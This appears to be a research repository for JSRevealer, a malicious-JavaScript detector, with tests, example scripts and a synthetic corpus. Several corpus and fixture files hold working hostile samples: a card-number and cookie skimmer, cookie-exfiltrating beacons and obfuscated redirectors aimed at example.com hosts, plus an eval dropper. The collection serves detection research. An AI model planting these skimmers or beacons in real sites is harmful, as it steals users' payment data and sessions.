            if y == 1 and p != r
        )
        total = sum(plain.labels)
        assert 0.3 <= changed / total <= 0.7  # malicious_obfuscation_rate = 0.5

    def test_roughly_half_of_benign_transformed(self, corpora):
        """Minification (0.4) + obfuscation (0.1) ≈ half of benign scripts."""
        plain, realistic = corpora
        changed = sum(
            1
            for p, r, y in zip(plain.sources, realistic.sources, plain.labels)
            if y == 0 and p != r
        )
        total = len(plain.labels) - sum(plain.labels)
        assert 0.3 <= changed / total <= 0.7

    def test_everything_still_parses(self, corpora):
        _, realistic = corpora
        for source in realistic.sources:
            parse(source)

    def test_deterministic(self):
        a = build_realistic_corpus(20, 20, seed=4)
        b = build_realistic_corpus(20, 20, seed=4)
        assert a.sources == b.sources

    def test_rates_configurable(self):
        untouched = build_realistic_corpus(
            30, 30, seed=5, malicious_obfuscation_rate=0.0, benign_minify_rate=0.0, benign_obfuscation_rate=0.0
        )
        plain = build_corpus(30, 30, seed=5)
        assert untouched.sources == plain.sources

    def test_no_tool_dispatchers_in_training_mixture(self, corpora):
        """Training-time obfuscation is wild-only: no switch dispatchers or
        fog arrays may appear (those are evaluation-tool signatures)."""
        _, realistic = corpora
        for source in realistic.sources:
            assert "$fog$" not in source
            assert '.split("|")' not in source
