"""Unit tests for the synthetic JavaScript generators."""

import numpy as np
import pytest

from repro.datasets import (
    BENIGN_FAMILIES,
    MALICIOUS_FAMILIES,
    build_corpus,
    experiment_split,
    generate_benign,
    generate_malicious,
)
from repro.jsparser import parse
from repro.obfuscation import Jshaman


class TestFamilies:
    @pytest.mark.parametrize("family", list(BENIGN_FAMILIES))
    def test_every_benign_family_parses(self, family):
        for seed in range(3):
            src = generate_benign(np.random.default_rng(seed), family=family)
            parse(src)

    @pytest.mark.parametrize("family", list(MALICIOUS_FAMILIES))
    def test_every_malicious_family_parses(self, family):
        for seed in range(3):
            src = generate_malicious(np.random.default_rng(seed), family=family)
            parse(src)

    def test_unknown_family_rejected(self):
        with pytest.raises(ValueError):
            generate_benign(np.random.default_rng(0), family="nonexistent")
        with pytest.raises(ValueError):
            generate_malicious(np.random.default_rng(0), family="nonexistent")

    def test_generators_deterministic(self):
        a = generate_benign(np.random.default_rng(5))
        b = generate_benign(np.random.default_rng(5))
        assert a == b

    def test_seed_varies_output(self):
        a = generate_malicious(np.random.default_rng(1))
        b = generate_malicious(np.random.default_rng(2))
        assert a != b

    def test_malicious_samples_are_inert(self):
        """Generated malicious code must only reference example domains."""
        for seed in range(12):
            src = generate_malicious(np.random.default_rng(seed))
            for proto in ("http://", "https://", "wss://"):
                start = 0
                while True:
                    at = src.find(proto, start)
                    if at == -1:
                        break
                    tail = src[at : at + 80]
                    assert ".example." in tail or "example.com" in tail, tail
                    start = at + 1


class TestCorpus:
    def test_counts_and_labels(self):
        corpus = build_corpus(12, 8, seed=0)
        assert len(corpus) == 20
        assert sum(corpus.labels) == 8

    def test_family_metadata(self):
        corpus = build_corpus(6, 6, seed=1)
        assert all(":" in family for family in corpus.families)
        benign_tags = [f for f, y in zip(corpus.families, corpus.labels) if y == 0]
        assert all(tag.startswith("benign:") for tag in benign_tags)

    def test_deterministic(self):
        a = build_corpus(5, 5, seed=7)
        b = build_corpus(5, 5, seed=7)
        assert a.sources == b.sources

    def test_subset(self):
        corpus = build_corpus(4, 4, seed=2)
        sub = corpus.subset([0, 2])
        assert len(sub) == 2
        assert sub.sources[0] == corpus.sources[0]

    def test_obfuscated_corpus_parses(self):
        corpus = build_corpus(4, 4, seed=3)
        obf = corpus.obfuscated(Jshaman(seed=0))
        assert len(obf) == len(corpus)
        assert obf.labels == corpus.labels
        for src in obf.sources:
            parse(src)

    def test_every_source_parses(self):
        corpus = build_corpus(18, 18, seed=4)
        for src in corpus.sources:
            parse(src)


class TestExperimentSplit:
    def test_partitions_disjoint_and_balanced(self):
        split = experiment_split(seed=0, pretrain_per_class=4, train_per_class=6, test_per_class=5)
        assert len(split.pretrain) == 8
        assert len(split.train) == 12
        assert len(split.test) == 10
        assert sum(split.pretrain.labels) == 4
        assert sum(split.train.labels) == 6
        assert sum(split.test.labels) == 5
        all_sources = split.pretrain.sources + split.train.sources + split.test.sources
        assert len(set(all_sources)) == len(all_sources)  # disjoint

    def test_label_array(self):
        split = experiment_split(seed=1, pretrain_per_class=2, train_per_class=2, test_per_class=2)
        assert split.test.label_array.dtype == np.dtype(int)
