#!/usr/bin/env python3
"""Obfuscation robustness walk-through (the paper's RQ1/RQ2 scenario).

Trains JSRevealer and the four comparison detectors on one corpus, then
re-obfuscates the test set with each of the four tools and prints the full
metric grid — a miniature of Tables V/VI and Figures 6/7.

Run:  python examples/obfuscation_robustness.py
"""

from repro.baselines import ALL_BASELINES
from repro.core import JSRevealer, JSRevealerConfig
from repro.datasets import experiment_split
from repro.ml import detection_report
from repro.obfuscation import ALL_OBFUSCATORS


def main() -> None:
    split = experiment_split(
        seed=1, pretrain_per_class=15, train_per_class=40, test_per_class=25, realistic=True
    )

    print("Training the four baselines…")
    detectors = {}
    for name, cls in ALL_BASELINES.items():
        detectors[name] = cls().fit(split.train.sources, split.train.labels)

    print("Training JSRevealer…")
    jsrevealer = JSRevealer(
        JSRevealerConfig(embed_dim=48, pretrain_epochs=10, k_benign=7, k_malicious=6, seed=1)
    )
    jsrevealer.pretrain(split.pretrain.sources, split.pretrain.labels)
    jsrevealer.fit(split.train.sources, split.train.labels)
    detectors["jsrevealer"] = jsrevealer

    print("Obfuscating the test set with each tool…")
    test_sets = {"clean": split.test}
    for name, cls in ALL_OBFUSCATORS.items():
        test_sets[name] = split.test.obfuscated(cls(seed=5))

    print("\nF1 (%) per detector per test-set variant:")
    header = f"{'Detector':12s}" + "".join(f"{name[:12]:>14s}" for name in test_sets)
    print(header)
    print("-" * len(header))
    for det_name, detector in detectors.items():
        row = f"{det_name:12s}"
        for corpus in test_sets.values():
            report = detection_report(corpus.label_array, detector.predict(corpus.sources))
            row += f"{report.f1:14.1f}"
        print(row)

    print("\nAn individual script before/after obfuscation:")
    sample = split.test.sources[0]
    obfuscator = ALL_OBFUSCATORS["javascript-obfuscator"](seed=5)
    mangled = obfuscator.obfuscate(sample)
    print("--- original (first 240 chars) ---")
    print(sample[:240])
    print("--- obfuscated (first 240 chars) ---")
    print(mangled[:240])
    verdict = jsrevealer.predict([sample, mangled])
    print(f"JSRevealer verdicts: original={'malicious' if verdict[0] else 'benign'}, "
          f"obfuscated={'malicious' if verdict[1] else 'benign'}")


if __name__ == "__main__":
    main()
