#!/usr/bin/env python3
"""Malware family classification (the paper's Sec. V-A future work).

Trains the binary JSRevealer detector, then stacks a multiclass family
classifier on the same cluster-feature space: flagged scripts get
attributed to an attack family (dropper, heap spray, skimmer,
cryptojacker, redirector, staged loader).

Run:  python examples/family_classification.py
"""

from repro.core import FamilyClassifier, JSRevealer, JSRevealerConfig
from repro.datasets import experiment_split


def malicious_subset(corpus):
    sources = [s for s, y in zip(corpus.sources, corpus.labels) if y == 1]
    families = [f.split(":")[1] for f, y in zip(corpus.families, corpus.labels) if y == 1]
    return sources, families


def main() -> None:
    split = experiment_split(
        seed=5, pretrain_per_class=15, train_per_class=48, test_per_class=24, realistic=True
    )

    print("Training the binary detector…")
    detector = JSRevealer(
        JSRevealerConfig(embed_dim=48, pretrain_epochs=10, k_benign=9, k_malicious=8, seed=5)
    )
    detector.pretrain(split.pretrain.sources, split.pretrain.labels)
    detector.fit(split.train.sources, split.train.labels)

    print("Stacking the family classifier on the same feature space…")
    train_sources, train_families = malicious_subset(split.train)
    classifier = FamilyClassifier(detector, seed=5).fit(train_sources, train_families)

    test_sources, test_families = malicious_subset(split.test)
    predictions = classifier.predict(test_sources)
    agreement = sum(p == t for p, t in zip(predictions, test_families)) / len(test_families)

    print(f"\nFamily attribution on {len(test_sources)} held-out malicious scripts: "
          f"{100 * agreement:.1f}% correct\n")
    print(f"{'family':14s} {'precision':>9s} {'recall':>7s} {'support':>8s}")
    for report in classifier.evaluate(test_sources, test_families):
        print(f"{report.family:14s} {report.precision:9.2f} {report.recall:7.2f} {report.support:8d}")

    print("\nExample attributions:")
    for source, truth, predicted in list(zip(test_sources, test_families, predictions))[:5]:
        marker = "✓" if truth == predicted else "✗"
        print(f"  {marker} true={truth:13s} predicted={predicted:13s} ({len(source)} bytes)")


if __name__ == "__main__":
    main()
