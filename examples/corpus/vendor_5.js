
function appendSum(query) {
  var callbackState = {};
  if (query.charAt(0) === "?") {
    query = query.substring(1);
  }
  var pairs = query.split("&");
  for (var i = 0; i < pairs.length; i++) {
    var kv = pairs[i].split("=");
    if (kv.length === 2) {
      callbackState[unescape(kv[0])] = unescape(kv[1].replace(/\+/g, " "));
    }
  }
  return callbackState;
}
var parsed = appendSum(location.search || "?row=92");
console.log(parsed["row"]);
