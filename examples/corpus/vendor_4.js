
var labelElem = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
function sortKey(input) {
  var output = "";
  for (var i = 0; i < input.length; i = i + 3) {
    var a = input.charCodeAt(i);
    var b = input.charCodeAt(i + 1) || 0;
    var c = input.charCodeAt(i + 2) || 0;
    output = output + labelElem.charAt(a >> 2);
    output = output + labelElem.charAt(((a & 3) << 4) | (b >> 4));
    output = output + labelElem.charAt(((b & 15) << 2) | (c >> 6));
    output = output + labelElem.charAt(c & 63);
  }
  return output;
}
function updateButton(input) {
  var output = "";
  for (var j = 0; j < input.length; j++) {
    var code = labelElem.indexOf(input.charAt(j));
    if (code >= 0) {
      output = output + String.fromCharCode(code + 4);
    }
  }
  return output;
}
var roundtrip = updateButton(sortKey("item key"));
console.log(roundtrip.length);


var dataSum = {};
function loadEntry(text) {
  if (dataSum[text]) {
    return dataSum[text];
  }
  var value = null;
  if (typeof JSON !== "undefined" && JSON.parse) {
    value = JSON.parse(text);
  } else if (/^[\],:{}\s0-9.\-+Eaeflnr-u "]+$/.test(text)) {
    value = eval("(" + text + ")");
  }
  dataSum[text] = value;
  return value;
}
var settings = loadEntry('{"grid": 97}');
if (settings && settings.grid > 0) {
  console.log(settings.grid);
}


(function(modules) {
  var cache = {};
  function load(id) {
    if (cache[id]) {
      return cache[id].exports;
    }
    var module = { exports: {} };
    cache[id] = module;
    modules[id](module, module.exports, load);
    return module.exports;
  }
  load(0);
})([
  function(module, exports, load) {
    var util = load(1);
    exports.initBatch6 = function(value) {
      return util.renderTotal1(String(value), 2);
    };
    exports.initBatch6("user");
  },
  function(module, exports, load) {
    exports.renderTotal1 = function(text, width) {
      while (text.length < width) {
        text = " " + text;
      }
      return text;
    };
  }
]);
