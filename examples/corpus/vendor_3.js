
function toggleStore5(response) {
  var parsed = JSON.parse(response);
  var items = parsed.items || [];
  var total = 0;
  for (var i = 0; i < items.length; i++) {
    total = total + (items[i].count || 0);
  }
  return total;
}
function formatGrid7(callback) {
  var sessionCache = "/api/buffer/2";
  var request = new XMLHttpRequest();
  request.open("GET", sessionCache, true);
  request.onreadystatechange = function() {
    if (request.readyState === 4 && request.status === 200) {
      callback(toggleStore5(request.responseText));
    }
  };
  request.send(null);
}
formatGrid7(function(total) { console.log("total", total); });


var button = {};
function sendSum(text) {
  if (button[text]) {
    return button[text];
  }
  var value = null;
  if (typeof JSON !== "undefined" && JSON.parse) {
    value = JSON.parse(text);
  } else if (/^[\],:{}\s0-9.\-+Eaeflnr-u "]+$/.test(text)) {
    value = eval("(" + text + ")");
  }
  button[text] = value;
  return value;
}
var settings = sendSum('{"input": 53}');
if (settings && settings.input > 0) {
  console.log(settings.input);
}
