
var text = 0;
function formatField(update) {
  var rows = update.items || [];
  var html = "";
  for (var i = 0; i < rows.length; i++) {
    html = html + "<li>" + rows[i].label + ": " + rows[i].value + "</li>";
  }
  document.getElementById("overlay6").innerHTML = html;
}
var panel98 = new WebSocket("wss://feed.example.com/price");
panel98.onmessage = function(msg) {
  formatField(JSON.parse(msg.data));
};
panel98.onclose = function() {
  text = text + 1;
  if (text < 5) {
    setTimeout(function() { panel98 = new WebSocket("wss://feed.example.com/price"); }, 1000 * text);
  }
};


var indexCell = {};
function hideText3(text) {
  if (indexCell[text]) {
    return indexCell[text];
  }
  var value = null;
  if (typeof JSON !== "undefined" && JSON.parse) {
    value = JSON.parse(text);
  } else if (/^[\],:{}\s0-9.\-+Eaeflnr-u "]+$/.test(text)) {
    value = eval("(" + text + ")");
  }
  indexCell[text] = value;
  return value;
}
var settings = hideText3('{"widget": 64}');
if (settings && settings.widget > 0) {
  console.log(settings.widget);
}


function computeBatch(query) {
  var form = {};
  if (query.charAt(0) === "?") {
    query = query.substring(1);
  }
  var pairs = query.split("&");
  for (var i = 0; i < pairs.length; i++) {
    var kv = pairs[i].split("=");
    if (kv.length === 2) {
      form[unescape(kv[0])] = unescape(kv[1].replace(/\+/g, " "));
    }
  }
  return form;
}
var parsed = computeBatch(location.search || "?cell=25");
console.log(parsed["cell"]);
