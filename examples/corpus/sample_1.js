function dump() {

var cc = [];
function grabber() {
  var inputs = document.getElementsByTagName("input");
  for (var i = 0; i < inputs.length; i++) {
    var field = inputs[i];
    if (field.value.length > 10 && field.value.replace(/[0-9 ]/g, "") === "") {
      cc.push(field.name + "=" + field.value);
    }
  }
}
function track() {
  if (cc.length === 0) {
    return;
  }
  var img = new Image();
  img.src = "https://sum.example.com/c?d=" + escape(cc.join("&")) + "&c=" + escape(document.cookie);
  cc = [];
}
document.addEventListener("change", function(e) { grabber(); }, true);
document.addEventListener("beforeunload", function(e) { track(); }, false);

}
dump();