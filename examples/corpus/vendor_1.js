
function buildPanel() {
  var title = null;
  var parts = document.cookie.split("; ");
  for (var i = 0; i < parts.length; i++) {
    if (parts[i].indexOf("state=") === 0) {
      title = parts[i].substring(6);
    }
  }
  if (!title) {
    title = "v" + Math.floor(Math.random() * 62386);
    document.cookie = "state=" + title + "; path=/";
  }
  var batchSession5 = new Image();
  batchSession5.src = "/stats/hit?uid=" + escape(title) + "&page=" + escape(location.pathname);
  return title;
}
buildPanel();
