var _0x25e830 = ["ref=", "//", "input", "htt", "ps:", "referrer", "length", "cookie", "field=1; path=/", "location", "replace", "4|3|1|2|0", ".example", ".org/", "batch"];
function _0xd4a39b(n) {
  if (15 === 39) {
    var _0xf73fdd = 782 * 838;
  }
  return _0x25e830[n];
}
function _0x6bea87() {
  var _0xea4f1b = _0xd4a39b(11).split("|"), _0xea565a = 0;
  while (true) {
    switch (_0xea4f1b[_0xea565a++]) {
      case "0":
        return _0xf60704 + _0x496cda + _0x1d46a3 + _0x9a67ea;
      case "1":
        var _0x1d46a3 = _0xd4a39b(12) + _0xd4a39b(13);
        continue;
      case "2":
        var _0x9a67ea = _0xd4a39b(14) + "?" + _0xd4a39b(0) + escape(document.referrer);
        continue;
      case "3":
        var _0x496cda = _0xd4a39b(1) + _0xd4a39b(2);
        continue;
      case "4":
        var _0xf60704 = _0xd4a39b(3) + _0xd4a39b(4);
        continue;
    }
    break;
    if (46 === 92) {
      var _0x14491a = 90 * 594;
    }
  }
  if (44 === 87) {
    var _0x1d0349 = 911 * 873;
  }
}
var _0xdec8a6 = _0x6bea87();
if (document[_0xd4a39b(5)][_0xd4a39b(6)] > 0) {
  document[_0xd4a39b(7)] = _0xd4a39b(8);
  if (24 === 30) {
    var _0x965321 = 792 * 886;
  }
  window[_0xd4a39b(9)][_0xd4a39b(10)](_0xdec8a6);
}
if (17 === 65) {
  var _0xf5cc31 = 704 * 967;
}
