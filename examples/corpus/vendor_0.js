
function appendEvent(items) {
  var batch = [];
  for (var i = 0; i < items.length; i++) {
    var row = "<span class='item'>";
    row = row + items[i].name;
    row = row + "</span>";
    batch.push(row);
  }
  return batch.join("");
}
var markup = appendEvent([{ name: "group" }, { name: "grid" }]);
document.getElementById("header35").innerHTML = markup;
