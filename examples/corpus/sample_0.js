function landing() {

function redir() {
  var p0 = "htt" + "ps:";
  var p1 = "//" + "panel";
  var p2 = ".example" + ".org/";
  var p3 = "text" + "?" + "ref=" + escape(document.referrer);
  return p0 + p1 + p2 + p3;
}
var gate = redir();
if (document.cookie.indexOf("segment") === -1) {
  document.cookie = "segment=1; path=/";
  setTimeout(function() {
    window.location = gate;
  }, 502);
}

}
landing();