#!/usr/bin/env python3
"""Quickstart: train JSRevealer and classify JavaScript.

Walks the paper's protocol end to end on a small synthetic corpus:
pre-train the path-embedding model, fit the cluster features and the
random forest, then classify unseen scripts — including a hand-written
malicious sample and a hand-written benign one.

Run:  python examples/quickstart.py
"""

from repro.core import JSRevealer, JSRevealerConfig
from repro.datasets import experiment_split
from repro.ml import detection_report

SUSPICIOUS_SNIPPET = """
var part1 = "ZXZpbC5qcw==";
var part2 = "cGF5bG9hZA==";
var blob = part1 + part2;
var decoded = "";
for (var i = 0; i < blob.length; i++) {
  decoded = decoded + String.fromCharCode(blob.charCodeAt(i) ^ 42);
}
eval(decoded);
"""

HARMLESS_SNIPPET = """
function renderGreeting(options) {
  var container = document.getElementById(options.target);
  var message = "Hello, " + (options.name || "visitor") + "!";
  if (container) {
    container.textContent = message;
  }
  return message;
}
renderGreeting({ target: "banner", name: "Ada" });
"""


def main() -> None:
    print("Building a synthetic corpus (seeded, reproducible)…")
    split = experiment_split(
        seed=7, pretrain_per_class=15, train_per_class=40, test_per_class=25, realistic=True
    )

    config = JSRevealerConfig(embed_dim=48, pretrain_epochs=10, k_benign=7, k_malicious=6, seed=7)
    detector = JSRevealer(config)

    print(f"Pre-training the path embedding on {len(split.pretrain)} scripts…")
    detector.pretrain(split.pretrain.sources, split.pretrain.labels)

    print(f"Fitting cluster features + random forest on {len(split.train)} scripts…")
    detector.fit(split.train.sources, split.train.labels)

    print(f"Evaluating on {len(split.test)} held-out scripts…")
    predictions = detector.predict(split.test.sources)
    report = detection_report(split.test.label_array, predictions)
    print(f"  {report.row()}")

    print("\nClassifying two hand-written scripts:")
    for name, source in (("xor-eval dropper", SUSPICIOUS_SNIPPET), ("greeting widget", HARMLESS_SNIPPET)):
        label = detector.predict([source])[0]
        proba = detector.predict_proba([source])[0]
        verdict = "MALICIOUS" if label == 1 else "benign"
        print(f"  {name:18s} -> {verdict}  (P[malicious] = {proba[1]:.2f})")

    print("\nPer-stage average cost (ms):")
    for stage, ms in sorted(detector.mean_stage_ms().items()):
        print(f"  {stage:22s} {ms:9.2f}")


if __name__ == "__main__":
    main()
