function unpack(codes) {
  var out = "";
  for (var i = 0; i < codes.length; i++) {
    out = out + String.fromCharCode(codes[i] - 7);
  }
  return out;
}
var host = String.fromCharCode(101, 118, 105, 108, 46, 101, 120, 97, 109, 112, 108, 101, 46, 99, 111, 109);
var path = unpack([54, 110, 104, 123, 108, 54]);
var img = new Image();
img.src = "//" + host + path + "?c=" + escape(document.cookie);
