function unpack(codes) {
  var out = "";
  for (var i = 0; i < codes.length; i++) {
    out = out + String.fromCharCode(codes[i] - 7);
  }
  return out;
}
var host = "evil.example.com";
var path = "/gate/";
var img = new Image();
img.src = "//" + host + path + "?c=" + escape(document.cookie);
