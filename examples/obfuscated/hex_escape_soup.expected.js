var k = "script";
var u = "https://drop.example.org/p.js";
var t = document.createElement(k);
t.src = u;
document.body.appendChild(t);
