if (1 + 1 === 2) {
  eval("var beacon = new Image();" + " beacon.src = \"https://sink.example.net/c?d=\"" + " + escape(document.cookie);");
} else {
  console.log("decoy branch");
}
