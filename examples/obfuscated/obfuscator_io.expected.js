if (document.cookie.indexOf("mark") === -1) {
  document.cookie = "mark=1";
  window.location.replace("aHR0cHM6Ly9jbmMuZXhhbXBsZS5uZXQvZ2F0ZQ==");
}
