{
  var beacon = new Image();
  beacon.src = "https://sink.example.net/c?d=" + escape(document.cookie);
}
