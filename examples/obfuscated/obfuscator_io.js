var _0x4e2a = ["charCodeAt", "cookie", "aHR0cHM6Ly9jbmMuZXhhbXBsZS5uZXQvZ2F0ZQ==", "write", "location", "replace", "length"];
(function(_0x1b3c, _0x5d2e) {
  var _0x3f1a = function(_0x2c4b) {
    while (--_0x2c4b) {
      _0x1b3c.push(_0x1b3c.shift());
    }
  };
  _0x3f1a(++_0x5d2e);
})(_0x4e2a, 3);
var _0x21dd = function(_0x1f0b) {
  return _0x4e2a[_0x1f0b - 0];
};
if (document[_0x21dd(5)].indexOf("mark") === -1) {
  document[_0x21dd(5)] = "mark=1";
  window[_0x21dd(1)][_0x21dd(2)](_0x21dd(6));
}
