#!/usr/bin/env python3
"""Directory scanner: the large-scale deployment scenario (paper's RQ4).

Trains a detector once, then scans every ``.js`` file under a directory
and prints a verdict per file with throughput statistics.  With no
argument, the example materializes a demo directory of generated scripts
(mixed benign/malicious, some obfuscated) and scans that.

Run:  python examples/scan_directory.py [path/to/js/dir]
"""

import sys
import tempfile
from pathlib import Path

import numpy as np

from repro.core import JSRevealer, JSRevealerConfig
from repro.datasets import experiment_split, generate_benign, generate_malicious
from repro.obfuscation import JavaScriptObfuscator


def build_demo_directory() -> Path:
    root = Path(tempfile.mkdtemp(prefix="jsrevealer-demo-"))
    rng = np.random.default_rng(4)
    obfuscator = JavaScriptObfuscator(seed=4)
    for i in range(8):
        (root / f"vendor_{i}.js").write_text(generate_benign(np.random.default_rng(100 + i)))
    for i in range(4):
        source = generate_malicious(np.random.default_rng(200 + i))
        if rng.random() < 0.5:
            source = obfuscator.obfuscate(source)
        (root / f"injected_{i}.js").write_text(source)
    return root


def main() -> None:
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else build_demo_directory()
    files = sorted(target.glob("**/*.js"))
    if not files:
        print(f"No .js files under {target}")
        return

    print("Training the detector once (reused for the whole scan)…")
    split = experiment_split(
        seed=3, pretrain_per_class=15, train_per_class=40, test_per_class=5, realistic=True
    )
    detector = JSRevealer(
        JSRevealerConfig(embed_dim=48, pretrain_epochs=10, k_benign=7, k_malicious=6, seed=3)
    )
    detector.pretrain(split.pretrain.sources, split.pretrain.labels)
    detector.fit(split.train.sources, split.train.labels)

    print(f"\nScanning {len(files)} files under {target} (2 workers, cached)\n")
    sources = [f.read_text(errors="replace") for f in files]
    cache_dir = Path(tempfile.mkdtemp(prefix="jsrevealer-cache-"))
    report = detector.scan_batch(
        sources, names=[f.name for f in files], n_workers=2, cache_dir=str(cache_dir)
    )

    for result in report.results:
        verdict = "MALICIOUS" if result.malicious else "benign   "
        print(f"  {verdict}  P={result.probability:.2f}  {result.path}"
              f"  ({result.path_count} paths)")

    total_kib = sum(len(s.encode()) for s in sources) / 1024
    elapsed = report.elapsed_ms / 1000
    print(f"\n{report.n_malicious}/{report.n_files} files flagged")
    print(f"scan time: {elapsed:.2f}s total, {report.elapsed_ms / len(files):.1f} ms/file "
          f"({total_kib / max(elapsed, 1e-9):.0f} KiB/s)")

    # A re-scan hits the content-addressed cache: extraction is skipped.
    rescan = detector.scan_batch(
        sources, names=[f.name for f in files], n_workers=2, cache_dir=str(cache_dir)
    )
    print(f"re-scan: {rescan.summary()}")


if __name__ == "__main__":
    main()
