#!/usr/bin/env python3
"""Interpretability walk-through (the paper's RQ3 scenario).

Trains JSRevealer, then inspects the most important cluster features: the
forest importances, each cluster's class and size, and the central path a
feature corresponds to.  The expected pattern (per the paper): benign
features reflect *functionality implementation* while malicious features
reflect *data manipulation*.

Run:  python examples/interpretability.py
"""

from repro.core import JSRevealer, JSRevealerConfig
from repro.datasets import experiment_split


def main() -> None:
    split = experiment_split(
        seed=2, pretrain_per_class=15, train_per_class=40, test_per_class=5, realistic=True
    )
    detector = JSRevealer(
        JSRevealerConfig(embed_dim=48, pretrain_epochs=10, k_benign=7, k_malicious=6, seed=2)
    )
    detector.pretrain(split.pretrain.sources, split.pretrain.labels)
    detector.fit(split.train.sources, split.train.labels)

    print("Top features by random-forest Gini importance\n")
    print(f"{'rank':>4s} {'importance':>10s} {'class':>10s} {'members':>8s}  central path")
    for rank, explanation in enumerate(detector.explain(top_n=8), start=1):
        print(
            f"{rank:>4d} {explanation.importance:>10.3f} {explanation.cluster_label:>10s} "
            f"{explanation.cluster_size:>8d}  {explanation.central_path_signature[:100]}"
        )

    print("\nReading the central paths:")
    print(" * benign clusters tend to run through FunctionDeclaration /")
    print("   BlockStatement / Property spines — functionality scaffolding;")
    print(" * malicious clusters tend to run through BinaryExpression /")
    print("   AssignmentExpression over literals and @dd-marked variables —")
    print("   the data-manipulation focus the paper describes.")

    counts = {"benign": 0, "malicious": 0}
    for feature in detector.feature_extractor.features_:
        counts[feature.label] += 1
    print(f"\nfeature inventory: {counts['benign']} benign clusters + "
          f"{counts['malicious']} malicious clusters "
          f"(overlap-removed: {detector.feature_extractor.removed_overlaps_})")


if __name__ == "__main__":
    main()
