"""Per-script resource limits: the contract a hostile input runs under.

JSRevealer's inputs are adversarial by definition — obfuscated, often
machine-generated JavaScript.  A single pathological sample (pathological
nesting, a 100 MB string soup, an allocation bomb hidden behind ``eval``)
must not be able to stall or OOM the process scanning it, so every script
dispatched through the fault-isolation layer runs under:

* a **wall-clock deadline** (``timeout_s``) enforced by the *parent* — a
  hot C-level loop inside a worker cannot be interrupted by in-process
  signals, so the supervisor SIGKILLs the worker instead,
* an **address-space cap** (``max_rss_mb``) applied via
  ``resource.setrlimit`` inside the worker, sized as headroom *above* the
  interpreter's current footprint so the numpy/BLAS baseline mapping does
  not eat the budget — allocations beyond it raise ``MemoryError``, which
  the worker converts into a graceful ``oom`` verdict,
* an optional **CPU-time cap** (``max_cpu_s``) as a backstop for spins the
  wall clock alone would catch late (the kernel delivers SIGXCPU/SIGKILL).

``ScanLimits`` is plain data: the CLI (``--timeout-s``/``--max-rss-mb``)
and the daemon config both build one and hand it to
:class:`~repro.pipeline.BatchScanner`.
"""

from __future__ import annotations

import math
from dataclasses import asdict, dataclass


@dataclass(frozen=True)
class ScanLimits:
    """Resource bounds for one scanned script.

    All fields are optional; :attr:`active` is True when any bound is set,
    which is what switches the scanner onto the fault-isolated worker path.

    Args:
        timeout_s: Wall-clock deadline per script (parent-enforced kill).
        max_rss_mb: Memory headroom in MiB granted on top of the worker's
            baseline footprint (``RLIMIT_AS``); exceeding it surfaces as a
            structured ``oom`` status, not a dead process.
        max_cpu_s: CPU-seconds cap per worker (``RLIMIT_CPU``).
        analysis_timeout_s: Deadline for the degraded triage-only analysis
            of a script that already faulted; defaults to ``timeout_s``.
    """

    timeout_s: float | None = None
    max_rss_mb: int | None = None
    max_cpu_s: float | None = None
    analysis_timeout_s: float | None = None

    def validate(self) -> None:
        for name in ("timeout_s", "max_rss_mb", "max_cpu_s", "analysis_timeout_s"):
            value = getattr(self, name)
            if value is not None and value <= 0:
                raise ValueError(f"{name} must be positive when set")

    @property
    def active(self) -> bool:
        """True when any bound is set — the scanner's isolation switch."""
        return any(
            value is not None
            for value in (self.timeout_s, self.max_rss_mb, self.max_cpu_s)
        )

    def deadline_for(self, kind: str) -> float | None:
        """Wall-clock budget for one task of ``kind`` (embed/analyze)."""
        if kind == "analyze" and self.analysis_timeout_s is not None:
            return self.analysis_timeout_s
        return self.timeout_s

    def to_dict(self) -> dict:
        return asdict(self)

    @classmethod
    def from_dict(cls, data: dict | None) -> "ScanLimits | None":
        if not data:
            return None
        return cls(**{k: data.get(k) for k in (
            "timeout_s", "max_rss_mb", "max_cpu_s", "analysis_timeout_s"
        )})


def _current_address_space_bytes() -> int:
    """Best-effort current VmSize, so rlimits are headroom, not absolutes."""
    try:
        with open("/proc/self/statm", encoding="ascii") as handle:
            pages = int(handle.read().split()[0])
        import os

        return pages * os.sysconf("SC_PAGE_SIZE")
    except (OSError, ValueError, IndexError):
        return 0


def apply_rlimits(limits: ScanLimits) -> None:
    """Install the kernel-enforced caps in the *current* process.

    Called from the worker bootstrap, before any script is touched.  A
    platform without :mod:`resource` (or a sandbox refusing setrlimit)
    degrades silently: the parent-side wall-clock kill still holds.
    """
    try:
        import resource
    except ImportError:  # pragma: no cover - non-POSIX platform
        return
    if limits.max_rss_mb is not None:
        cap = _current_address_space_bytes() + limits.max_rss_mb * 1024 * 1024
        try:
            resource.setrlimit(resource.RLIMIT_AS, (cap, cap))
        except (ValueError, OSError):  # pragma: no cover - sandbox refusal
            pass
    if limits.max_cpu_s is not None:
        seconds = max(1, math.ceil(limits.max_cpu_s))
        try:
            resource.setrlimit(resource.RLIMIT_CPU, (seconds, seconds + 1))
        except (ValueError, OSError):  # pragma: no cover - sandbox refusal
            pass


def read_rusage() -> dict | None:
    """Self rusage snapshot attached to worker replies and journal entries."""
    try:
        import resource

        usage = resource.getrusage(resource.RUSAGE_SELF)
        return {
            "max_rss_kb": int(usage.ru_maxrss),
            "user_s": round(usage.ru_utime, 3),
            "system_s": round(usage.ru_stime, 3),
        }
    except Exception:  # pragma: no cover - non-POSIX platform
        return None
