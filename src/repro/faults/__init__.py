"""Hostile-input fault isolation: limits, quarantine, breaker, chaos seam.

The scanner's inputs are adversarial by premise, so this layer guarantees
that no single script can degrade service for the others:

* :class:`ScanLimits` + :func:`apply_rlimits` — per-script wall-clock
  deadline and kernel memory/CPU caps,
* :class:`IsolatedPool` — supervised single-task workers with precise
  fault attribution (``timeout`` / ``oom`` / ``crashed``) and automatic
  replacement,
* :class:`QuarantineJournal` — append-only record of poison scripts so
  they are never retried,
* :class:`CircuitBreaker` — converts sustained worker deaths into fast
  503 backpressure with half-open recovery,
* :mod:`repro.faults.inject` — the test-only chaos seam
  (``REPRO_FAULT_INJECT`` + ``@repro-fault:`` markers),
* :func:`classify_shard_fault` — the same attribution problem lifted one
  level up, for the cluster router judging whole shard daemons.

See DESIGN.md §9 for the failure-mode state machine.
"""

from .breaker import CLOSED, HALF_OPEN, OPEN, CircuitBreaker
from .inject import ENV_BOOT, ENV_FLAG, InjectedFault, maybe_inject, maybe_inject_boot
from .limits import ScanLimits, apply_rlimits, read_rusage
from .quarantine import QuarantineEntry, QuarantineJournal
from .shardfault import (
    SHARD_DEAD,
